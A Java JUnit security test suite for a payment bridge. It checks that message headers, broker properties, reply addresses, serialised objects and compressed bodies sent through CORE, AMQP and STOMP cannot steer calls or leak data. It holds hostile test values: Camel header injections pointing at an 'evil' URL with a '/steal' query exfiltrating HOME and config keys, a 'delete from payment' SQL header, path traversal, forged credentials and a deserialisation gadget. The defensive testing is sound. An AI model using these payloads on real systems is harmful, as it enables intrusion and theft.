package nl.pinbridge.app;

import static nl.pinbridge.app.BridgeTest.text;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import jakarta.jms.BytesMessage;
import jakarta.jms.Connection;
import jakarta.jms.DeliveryMode;
import jakarta.jms.Destination;
import jakarta.jms.JMSException;
import jakarta.jms.MapMessage;
import jakarta.jms.Message;
import jakarta.jms.MessageConsumer;
import jakarta.jms.MessageProducer;
import jakarta.jms.Session;
import jakarta.jms.StreamMessage;
import jakarta.jms.TextMessage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.io.Serializable;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Properties;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import nl.pinbridge.app.RunningBridge.Till;
import nl.pinbridge.broker.Addresses;
import nl.pinbridge.broker.BrokerConnections;
import nl.pinbridge.broker.BrokerSettings;
import nl.pinbridge.broker.Delivered;
import nl.pinbridge.broker.Login;
import nl.pinbridge.broker.Place;
import nl.pinbridge.broker.StompClient;
import nl.pinbridge.config.Secret;
import nl.pinbridge.contract.Json;
import nl.pinbridge.sandbox.Sandbox;
import org.apache.activemq.artemis.jms.client.ActiveMQConnectionFactory;
import org.apache.activemq.artemis.jms.client.ActiveMQDestination;
import org.apache.camel.CamelContext;
import org.apache.camel.Exchange;
import org.apache.camel.impl.DefaultCamelContext;
import org.apache.camel.support.DefaultExchange;
import org.apache.camel.support.DefaultExchangeHolder;
import org.apache.qpid.jms.JmsConnectionFactory;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/**
 * What a sender puts beside a command steers nothing. Judges are a server that nobody may call, the requests that the provider got,
 * compared byte by byte with that of a plain command, and everything that stands on a result.
 */
class HeaderAttackTest {
    enum Protocol {
        CORE,
        AMQP,
        STOMP
    }

    /** What stands on a result and on nothing else: the contract's properties, and what the broker and its client add. */
    private static final Set<String> ON_RESULTS = Set.of(
            "commandId",
            "paymentId",
            "status",
            "final",
            "provider",
            "terminal",
            "undeliverableTo",
            "_AMQ_DUPL_ID",
            "_AMQ_INGRESS_TIMESTAMP",
            "__AMQ_CID",
            "JMSXDeliveryCount",
            "JMSXUserID");

    private static final String REPLIES = "payments.replies.kassa";

    /** Named as a temporary queue is, of a client that went away. */
    private static final String GONE = "00000000-0000-0000-0000-000000000000";

    private static final AtomicInteger NUMBER = new AtomicInteger();

    private static Sandbox sandbox;
    private static Recorder provider;
    private static Recorder evil;
    private static RunningBridge bridge;
    private static Login kassa;
    private static Connection connection;
    private static Session session;
    private static Connection reading;
    private static final List<Message> RESULTS = new CopyOnWriteArrayList<>();

    @BeforeAll
    static void start() throws Exception {
        sandbox = RunningBridge.startSandbox();
        provider = new Recorder(sandbox.url());
        evil = new Recorder(null);
        bridge = RunningBridge.with()
                .sandbox(sandbox)
                .set("pinbridge.provider.pinvandaag.url", provider.url() + "/V1")
                .set("pinbridge.broker.clients", "kassa,other")
                .start();
        kassa = login("client-kassa.properties");
        connection = factory(kassa).createConnection();
        session = connection.createSession(false, Session.AUTO_ACKNOWLEDGE);
        connection.start();
        RESULTS.clear();
        reading = factory(kassa).createConnection();
        for (String queue : List.of(REPLIES, "payments.replies")) {
            Session own = reading.createSession(false, Session.AUTO_ACKNOWLEDGE);
            own.createConsumer(own.createQueue(queue)).setMessageListener(RESULTS::add);
        }
        reading.start();
    }

    @AfterAll
    static void stop() throws JMSException {
        reading.close();
        connection.close();
        bridge.close();
        provider.close();
        evil.close();
        sandbox.close();
    }

    private static Login login(String file) throws IOException {
        Properties properties = new Properties();
        try (var in = java.nio.file.Files.newInputStream(bridge.data().resolve(file))) {
            properties.load(in);
        }
        return new Login(properties.getProperty("username"), new Secret(properties.getProperty("password")));
    }

    private static ActiveMQConnectionFactory factory(Login login) {
        return BrokerConnections.plain(bridge.bridge().brokerUrl(), login);
    }

    private static int port() {
        return Integer.parseInt(bridge.bridge().brokerUrl().replaceFirst(".*:", ""));
    }

    // ---- headers that steer Camel, HTTP or SQL ----

    /** Names as Camel 4.18 knows them, and those of HTTP, as JMS and STOMP can carry them. */
    private static Map<String, String> steering() {
        String url = evil.url() + "/steal?home={{env:HOME}}&key={{pinbridge.provider.pinvandaag.url}}";
        Map<String, String> steering = new LinkedHashMap<>();
        for (String name :
                List.of("CamelHttpUri", "CamelRestHttpUri", "CamelHttpBaseUri", "CamelHttpHost", "CamelToEndpoint")) {
            steering.put(name, url);
        }
        steering.put("CamelHttpMethod", "DELETE");
        steering.put("CamelHttpPath", "/../admin");
        steering.put("CamelHttpQuery", "amount=1");
        steering.put("CamelHttpRawQuery", "amount=1&home={{env:HOME}}");
        steering.put("CamelHttpScheme", "https");
        steering.put("CamelHttpPort", "1");
        steering.put("CamelHttpResponseCode", "403");
        steering.put("CamelJmsDestinationName", "pinbridge.admin");
        steering.put("CamelJmsDestination", "payments.commands");
        steering.put("CamelJmsMessageType", "Object");
        steering.put("CamelSqlQuery", "delete from payment");
        steering.put("CamelSqlParameters", "1");
        steering.put("CamelFileName", "../../stolen");
        steering.put("CamelBeanMethodName", "close");
        steering.put("CamelRedelivered", "true");
        steering.put("CamelExceptionCaught", "java.lang.Error");
        steering.put("CamelSkipGzipEncoding", "false");
        steering.put("CamelCharsetName", "UTF-7");
        steering.put("Authorization", "Bearer attacker");
        steering.put("Host", "evil.example");
        steering.put("Cookie", "session=attacker");
        steering.put("Content_HYPHEN_Type", "text/plain");
        steering.put("X_HYPHEN_Forwarded_HYPHEN_For", "10.0.0.1");
        steering.put("breadcrumbId", "attacker");
        steering.put("status", "SUCCEEDED");
        steering.put("paymentId", "attacker");
        steering.put("final", "true");
        steering.put("undeliverableTo", "attacker");
        return steering;
    }

    private static List<Map<String, String>> spellings() {
        List<Map<String, String>> spellings = new ArrayList<>();
        List<java.util.function.UnaryOperator<String>> ways = List.of(
                name -> name,
                name -> name.replaceFirst("^Ca", "CA"),
                name -> name.replaceFirst("^Camel", "CAMEL"),
                name -> name.replaceFirst("^Camel", "cAmEl"),
                name -> name.toLowerCase(Locale.ROOT),
                name -> name.toUpperCase(Locale.ROOT));
        for (var way : ways) {
            Map<String, String> spelt = new LinkedHashMap<>();
            steering().forEach((name, value) -> spelt.put(way.apply(name), value));
            spellings.add(spelt);
        }
        return spellings;
    }

    @ParameterizedTest
    @EnumSource
    void no_header_in_any_spelling_steers_the_call_or_reaches_provider_or_results(Protocol protocol) throws Exception {
        Till plain = bridge.till();
        String first = sendCreate(Protocol.CORE, plain, Map.of());
        JsonNode plainResult = awaitFinal(first);
        Recorder.Request expected = createRequest(plainResult);

        Map<String, Till> sent = new LinkedHashMap<>();
        for (Map<String, String> attack : spellings()) {
            Till till = bridge.till();
            sent.put(sendCreate(protocol, till, attack), till);
        }
        for (Map.Entry<String, Till> attack : sent.entrySet()) {
            JsonNode result = awaitFinal(attack.getKey());
            assertThat(text(result, "status")).isEqualTo("SUCCEEDED");
            assertThat(bridge.charges(result)).hasSize(1);
            Recorder.Request request = createRequest(result);
            assertThat(request.method()).isEqualTo("POST");
            assertThat(request.target()).isEqualTo("/V1/instore/transactions/create");
            assertThat(plain(request, result, attack.getValue())).isEqualTo(plain(expected, plainResult, plain));
        }
        assertNothingElseHappened();
    }

    /** A request with what must differ between two payments taken out. */
    private static Map<String, Object> plain(Recorder.Request request, JsonNode result, Till till) {
        Map<String, Object> plain = new TreeMap<>(request.headers());
        String type = request.headers().get("Content-type").get(0);
        Matcher boundary = Pattern.compile("boundary=(.*)").matcher(type);
        assertThat(boundary.find()).isTrue();
        plain.put("Content-type", type.replace(boundary.group(1), "B"));
        plain.put("Content-length", "L");
        plain.put(
                "body",
                request.body()
                        .replace(boundary.group(1), "B")
                        .replace(text(result.path("payment"), "id"), "OWN-REFERENCE")
                        .replace(till.id(), "TERMINAL")
                        .replaceAll(RunningBridge.KEY + "[0-9]+", "KEY"));
        return plain;
    }

    private static Recorder.Request createRequest(JsonNode result) {
        List<Recorder.Request> requests = provider.requests().stream()
                .filter(request -> request.target().contains("create"))
                .filter(request -> request.body().contains(text(result.path("payment"), "id")))
                .toList();
        assertThat(requests).hasSize(1);
        return requests.get(0);
    }

    private static String nextKey() {
        return "attack-" + NUMBER.incrementAndGet();
    }

    /** Sends a create with these properties and the reply queue of its user; its key. */
    private static String sendCreate(Protocol protocol, Till till, Map<String, String> properties) throws Exception {
        String key = nextKey();
        send(protocol, Json.write(TestClient.create(key, till.alias(), 100)), REPLIES, properties);
        return key;
    }

    private static void send(Protocol protocol, String body, String replyTo, Map<String, ?> properties)
            throws Exception {
        switch (protocol) {
            case CORE -> sendByJms(session, body, ActiveMQDestination.createQueue(replyTo), properties);
            case AMQP -> {
                try (Connection amqp = amqp(kassa)) {
                    Session own = amqp.createSession(false, Session.AUTO_ACKNOWLEDGE);
                    sendByJms(own, body, own.createQueue(replyTo), properties);
                }
            }
            case STOMP -> {
                try (StompClient stomp = new StompClient(port(), kassa)) {
                    assertThat(stomp(stomp, body, replyTo, properties)).isEqualTo("RECEIPT");
                }
            }
        }
    }

    private static String stomp(StompClient stomp, String body, String replyTo, Map<String, ?> properties)
            throws IOException {
        List<String> headers = new ArrayList<>(List.of(
                "destination:payments.commands",
                "destination-type:ANYCAST",
                "persistent:true",
                "receipt:r-1",
                "reply-to:" + replyTo));
        properties.forEach((name, value) ->
                headers.add(name + ":" + value.toString().replace("\\", "\\\\").replace(":", "\\c")));
        stomp.send("SEND", body, headers.toArray(String[]::new));
        return stomp.receive().command();
    }

    private static Connection amqp(Login login) throws JMSException {
        Connection amqp = new JmsConnectionFactory(
                        login.user(), login.password().reveal(), "amqp://127.0.0.1:" + port())
                .createConnection();
        amqp.start();
        return amqp;
    }

    private static void sendByJms(Session own, String body, Destination replyTo, Map<String, ?> properties)
            throws JMSException {
        TextMessage message = own.createTextMessage(body);
        message.setJMSReplyTo(replyTo);
        for (Map.Entry<String, ?> property : properties.entrySet()) {
            message.setObjectProperty(property.getKey(), property.getValue());
        }
        try (MessageProducer producer = own.createProducer(own.createQueue("payments.commands"))) {
            producer.send(message);
        }
    }

    private static List<Message> results(String key) {
        return RESULTS.stream()
                .filter(message -> text(body(message), "commandId").equals(key))
                .toList();
    }

    private static JsonNode body(Message message) {
        try {
            return Json.read(((TextMessage) message).getText());
        } catch (JMSException e) {
            throw new IllegalStateException(e);
        }
    }

    private static JsonNode awaitFinal(String key) {
        Awaitility.await(key)
                .atMost(Duration.ofSeconds(30))
                .pollInterval(Duration.ofMillis(20))
                .until(() -> results(key).stream()
                        .anyMatch(message -> body(message).path("final").asBoolean()));
        return results(key).stream()
                .map(HeaderAttackTest::body)
                .filter(result -> result.path("final").asBoolean())
                .findFirst()
                .orElseThrow();
    }

    /** Nobody else was called, nothing of a sender stands on a result, and a good command still works. */
    private static void assertNothingElseHappened() throws Exception {
        String key = sendCreate(Protocol.CORE, bridge.till(), Map.of());
        assertThat(text(awaitFinal(key), "status")).isEqualTo("SUCCEEDED");
        assertThat(evil.requests()).isEmpty();
        assertThat(provider.requests()).allSatisfy(request -> {
            assertThat(request.target()).matches("/V1/instore/transactions/(create|status)");
            assertThat(request.toString()).doesNotContain("attacker", "{{", System.getenv("HOME") + "&");
        });
        for (Message result : RESULTS) {
            Set<String> names = new TreeSet<>();
            Collections.list(result.getPropertyNames()).forEach(name -> names.add(String.valueOf(name)));
            assertThat(ON_RESULTS).containsAll(names);
            assertThat(result.getJMSType()).isNull();
            assertThat(result.getJMSReplyTo()).isNull();
            assertThat(result.getJMSExpiration()).isZero();
            assertThat(result.getJMSPriority()).isEqualTo(Message.DEFAULT_PRIORITY);
            assertThat(result.getJMSDeliveryMode()).isEqualTo(DeliveryMode.PERSISTENT);
            assertThat(RunningBridge.RESULTS.validate(body(result))).isEmpty();
        }
    }

    // ---- properties of the broker's own ----

    @ParameterizedTest
    @EnumSource
    void properties_of_the_broker_are_refused_or_mean_nothing_beyond_the_command(Protocol protocol) throws Exception {
        long soon = System.currentTimeMillis() + 500;
        Map<String, Object> properties = new LinkedHashMap<>();
        properties.put("_AMQ_SCHED_DELIVERY", soon);
        properties.put("_AMQ_DUPL_ID", "attacker-" + protocol);
        properties.put("_AMQ_GROUP_SEQUENCE", -1);
        properties.put("_AMQ_ROUTING_TYPE", (byte) 0);
        properties.put("_AMQ_LVQ_NAME", "attacker");
        properties.put("_AMQ_ORIG_ADDRESS", "pinbridge.admin");
        properties.put("_AMQ_ORIG_QUEUE", "pinbridge.admin");
        properties.put("_AMQ_BRIDGE_DUP", "attacker");
        properties.put("_AMQ_LARGE_COMPRESSED", true);
        properties.put("_AMQ_LARGE_SIZE", Long.MAX_VALUE);
        properties.put("_AMQ_PREFIX", "attacker");
        properties.put("_AMQ_AD", "pinbridge.admin");
        properties.put("_AMQ_INGRESS_TIMESTAMP", 1L);
        properties.put("_AMQ_VALIDATED_USER", "client");
        properties.put("__AMQ_CID", "attacker");
        properties.put("pinbridge_reply_refused", "true");
        properties.put("JMSXGroupID", "attacker");
        int answered = 0;
        for (Map.Entry<String, Object> property : properties.entrySet()) {
            String key = nextKey();
            String ping = "{\"commandId\":\"" + key + "\",\"command\":\"ping\"}";
            try {
                send(protocol, ping, REPLIES, Map.of(property.getKey(), property.getValue()));
            } catch (JMSException | AssertionError refused) {
                assertThat(results(key)).isEmpty();
                continue;
            }
            assertThat(text(awaitFinal(key), "status")).as(property.getKey()).isEqualTo("SUCCEEDED");
            assertThat(results(key)).hasSize(1);
            answered++;
        }
        assertThat(answered).isBetween(3, properties.size() - 6);
        assertNothingElseHappened();
    }

    @Test
    void a_group_or_a_delay_of_the_sender_stays_on_his_own_message() throws Exception {
        List<String> keys = new ArrayList<>();
        long before = System.currentTimeMillis();
        for (int i = 0; i < 4; i++) {
            Till till = bridge.till();
            String key = nextKey();
            keys.add(key);
            send(
                    Protocol.CORE,
                    Json.write(TestClient.create(key, till.alias(), 100)),
                    REPLIES,
                    Map.of("JMSXGroupID", "one", "_AMQ_SCHED_DELIVERY", before + 300));
        }
        for (String key : keys) {
            assertThat(text(awaitFinal(key), "status")).isEqualTo("SUCCEEDED");
        }
        assertNothingElseHappened();
    }

    @ParameterizedTest
    @EnumSource
    void nobody_passes_for_somebody_else(Protocol protocol) throws Exception {
        try (TestClient victim = bridge.client()) {
            String theirs = nextKey();
            victim.send(TestClient.create(theirs, bridge.till().alias(), 100));
            String payment = text(victim.awaitFinal(theirs).path("payment"), "id");
            for (String name : List.of("_AMQ_VALIDATED_USER", "JMSXUserID", "JMSXAppID", "user_id")) {
                for (String whose : List.of(theirs, payment)) {
                    String key = nextKey();
                    String status =
                            "{\"commandId\":\"" + key + "\",\"command\":\"status\",\"payment\":\"" + whose + "\"}";
                    send(protocol, status, REPLIES, Map.of(name, "client"));
                    JsonNode result = awaitFinal(key);
                    assertThat(text(result.path("error"), "code")).as(name).isEqualTo("UNKNOWN_PAYMENT");
                }
            }
        }
    }

    // ---- reply addresses ----

    @ParameterizedTest
    @EnumSource
    void results_go_only_where_the_sender_may_read(Protocol protocol) throws Exception {
        BrokerSettings settings =
                new BrokerSettings(Path.of("unused"), 0, List.of("kassa", "other"), List.of(), Delivered.providers());
        Set<String> wished = new TreeSet<>();
        Addresses.places(settings).stream()
                .map(Place::name)
                .filter(name -> !name.equals(REPLIES))
                .forEach(wished::add);
        wished.addAll(List.of(
                "activemq.management",
                "activemq.notifications",
                "payments.replies.nobody",
                "payments.replies::payments.replies.other",
                REPLIES + "::payments.replies.other",
                "payments.replies.*",
                "payments.#",
                "#",
                "queue://pinbridge.admin",
                "topic://payments.events",
                "temp-queue://payments.replies.other",
                GONE));
        try (Inbox theirs = Inbox.ofQueue(factory(login("client-other.properties")), "payments.replies.other");
                Inbox refused = Inbox.ofQueue(bridge.factory(), "payments.refused")) {
            Map<String, String> sent = new LinkedHashMap<>();
            for (String address : wished) {
                String key = nextKey();
                sent.put(key, address);
                send(protocol, "{\"commandId\":\"" + key + "\",\"command\":\"ping\"}", address, Map.of());
            }
            for (String key : sent.keySet()) {
                awaitFinal(key);
                assertThat(results(key)).as(sent.get(key)).hasSize(1);
                Destination where = results(key).get(0).getJMSDestination();
                assertThat(((ActiveMQDestination) where).getAddress())
                        .as(sent.get(key))
                        .isEqualTo("payments.replies");
            }
            assertThat(theirs.arrivals()).isEmpty();
            assertThat(refused.arrivals()).isEmpty();
        }
        for (Message result : RESULTS) {
            assertThat(result.getStringProperty("undeliverableTo")).isIn(null, GONE);
        }
    }

    @Test
    void a_topic_as_reply_address_is_not_used() throws Exception {
        try (Inbox events = Inbox.ofTopic(bridge.factory(), "payments.events")) {
            String key = nextKey();
            sendByJms(
                    session,
                    "{\"commandId\":\"" + key + "\",\"command\":\"ping\"}",
                    session.createTopic("payments.events"),
                    Map.of());
            awaitFinal(key);
            events.await(arrival -> text(arrival.body(), "commandId").equals(key));
            assertThat(events.of(key)).hasSize(1);
        }
    }

    @Test
    void whoever_was_told_the_name_of_a_temporary_queue_may_have_results_sent_there() throws Exception {
        try (Connection other = factory(login("client-other.properties")).createConnection()) {
            Session theirs = other.createSession(false, Session.AUTO_ACKNOWLEDGE);
            Destination temporary = theirs.createTemporaryQueue();
            other.start();
            try (MessageConsumer consumer = theirs.createConsumer(temporary)) {
                String key = nextKey();
                sendByJms(session, "{\"commandId\":\"" + key + "\",\"command\":\"ping\"}", temporary, Map.of());
                // Its name is a UUID that nobody can guess.
                assertThat(consumer.receive(10_000)).isNotNull();
            }
        }
    }

    // ---- messages that are no text ----

    /** Does what must never happen. */
    static final class Gadget implements Serializable {
        private static final long serialVersionUID = 1L;
        static volatile boolean read;

        private Object readResolve() {
            read = true;
            return this;
        }
    }

    @Test
    void objects_maps_streams_and_serialised_exchanges_are_refused_unread() throws Exception {
        List<Message> messages = new ArrayList<>();
        messages.add(session.createObjectMessage(new Gadget()));
        messages.add(session.createObjectMessage(holder()));
        messages.add(session.createObjectMessage(new ArrayList<>(List.of(new Gadget(), "x"))));
        MapMessage map = session.createMapMessage();
        map.setString("commandId", "in-a-map");
        map.setString("CAmelHttpUri", evil.url());
        messages.add(map);
        StreamMessage stream = session.createStreamMessage();
        stream.writeString("{\"commandId\":\"in-a-stream\",\"command\":\"ping\"}");
        messages.add(stream);
        messages.add(session.createMessage());
        for (Serializable object : List.of(new Gadget(), holder())) {
            BytesMessage bytes = session.createBytesMessage();
            bytes.writeBytes(serialised(object));
            messages.add(bytes);
            TextMessage text = session.createTextMessage(new String(serialised(object), StandardCharsets.ISO_8859_1));
            messages.add(text);
        }
        try (Inbox refused = Inbox.ofQueue(bridge.factory(), "payments.refused")) {
            int expected = 0;
            try (MessageProducer producer = session.createProducer(session.createQueue("payments.commands"))) {
                for (Message message : messages) {
                    message.setStringProperty("CamelHttpUri", evil.url());
                    producer.send(message);
                    expected++;
                }
            }
            try (Connection amqp = amqp(kassa)) {
                Session own = amqp.createSession(false, Session.AUTO_ACKNOWLEDGE);
                MapMessage amqpMap = own.createMapMessage();
                amqpMap.setString("commandId", "in-a-map");
                StreamMessage amqpStream = own.createStreamMessage();
                amqpStream.writeString("text");
                try (MessageProducer producer = own.createProducer(own.createQueue("payments.commands"))) {
                    for (Message message :
                            List.of(own.createObjectMessage(new Gadget()), amqpMap, amqpStream, own.createMessage())) {
                        producer.send(message);
                        expected++;
                    }
                }
            }
            int all = expected;
            Awaitility.await()
                    .atMost(Duration.ofSeconds(20))
                    .until(() -> refused.arrivals().size() >= all);
            assertThat(refused.arrivals()).hasSize(all);
        }
        assertThat(Gadget.read).isFalse();
        assertNothingElseHappened();
    }

    private static Serializable holder() throws Exception {
        try (CamelContext camel = new DefaultCamelContext()) {
            Exchange exchange = new DefaultExchange(camel);
            exchange.getMessage().setBody("{\"commandId\":\"in-a-holder\",\"command\":\"ping\"}");
            exchange.getMessage().setHeader("CamelHttpUri", evil.url());
            exchange.setProperty("CamelToEndpoint", evil.url());
            return DefaultExchangeHolder.marshal(exchange);
        }
    }

    private static byte[] serialised(Serializable object) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
            out.writeObject(object);
        }
        return bytes.toByteArray();
    }

    @Test
    void a_compressed_body_is_refused_to_the_senders_face() throws Exception {
        ActiveMQConnectionFactory squeezing = factory(kassa);
        squeezing.setCompressLargeMessage(true);
        squeezing.setMinLargeMessageSize(1_000);
        try (Connection own = squeezing.createConnection()) {
            Session squeezed = own.createSession(false, Session.AUTO_ACKNOWLEDGE);
            // 64 MB of nothing is 64 kB on the wire.
            assertThatThrownBy(() ->
                            sendByJms(squeezed, " ".repeat(32 * 1024 * 1024), squeezed.createQueue(REPLIES), Map.of()))
                    .isInstanceOf(JMSException.class)
                    .hasMessageContaining("not taken");
        }
        try (Connection own = factory(kassa).createConnection()) {
            Session big = own.createSession(false, Session.AUTO_ACKNOWLEDGE);
            assertThatThrownBy(() -> sendByJms(big, " ".repeat(8 * 1024 * 1024), big.createQueue(REPLIES), Map.of()))
                    .isInstanceOf(JMSException.class)
                    .hasMessageContaining("at most");
        }
        assertNothingElseHappened();
    }
}
